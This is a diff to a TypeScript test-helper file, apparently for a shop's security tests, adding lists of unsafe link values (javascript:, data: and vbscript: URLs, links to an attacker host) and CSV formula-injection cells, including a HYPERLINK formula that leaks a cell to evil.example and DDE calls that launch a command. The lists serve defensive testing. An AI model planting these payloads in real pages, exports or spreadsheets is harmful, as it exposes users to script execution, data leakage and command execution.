@@ -46,9 +46,44 @@ export const SECURITY_HEADERS = [
   'cross-origin-opener-policy',
 ] as const;
 
+/**
+ * Links that must never reach a page from settings or content: script and data URLs in their
+ * spellings, plain http, an address without a scheme that leaves the shop, and a backslash
+ * that browsers read as a slash.
+ */
+export const UNSAFE_LINKS = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  `http://${EVIL_HOST}/phish`,
+  `//${EVIL_HOST}/phish`,
+  `https:\\${EVIL_HOST}`,
+  `https://user:pass@${EVIL_HOST}/`,
+] as const;
+
+/** What a spreadsheet would run if a CSV cell started with it (a formula, a DDE call). */
+export const FORMULA_CELLS = [
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+] as const;
+
+/** True when a CSV cell as read from a file would start a formula in a spreadsheet. */
+export const startsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);
+
 /** A JSON text nested `depth` levels deep: `{"a":{"a":…}}`. */
 export function deeplyNested(depth: number): string {
   return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
+}
+
+/** A JSON text of `depth` lists inside each other: `[[[…]]]`, two bytes a level. */
+export function nestedArrays(depth: number): string {
+  return `${'['.repeat(depth)}${']'.repeat(depth)}`;
 }
 
 /** The contract's error shape, with the status and (when given) the code expected. */
